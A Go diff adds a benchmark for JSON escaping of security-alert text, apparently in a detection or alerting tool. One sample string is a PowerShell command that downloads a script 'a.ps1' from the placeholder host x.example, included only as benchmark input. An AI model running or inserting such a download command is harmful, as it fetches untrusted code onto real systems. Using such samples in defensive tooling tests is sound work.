@@ -142,3 +142,24 @@ func FuzzAppendString(f *testing.F) {
 		}
 	})
 }
+
+// BenchmarkAppendString is the JSON writing of an alert's typical text: a long plain
+// description, a Windows path and a command line with quotes.
+func BenchmarkAppendString(b *testing.B) {
+	texts := []string{
+		strings.Repeat("A process ran a command line that looks like an attack. ", 20),
+		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+		`powershell.exe -NoProfile -Command "Invoke-WebRequest -Uri 'http://x.example/a.ps1'"`,
+	}
+	n := 0
+	for _, t := range texts {
+		n += len(t)
+	}
+	b.SetBytes(int64(n))
+	var buf []byte
+	for b.Loop() {
+		for _, t := range texts {
+			buf = appendString(buf[:0], t)
+		}
+	}
+}
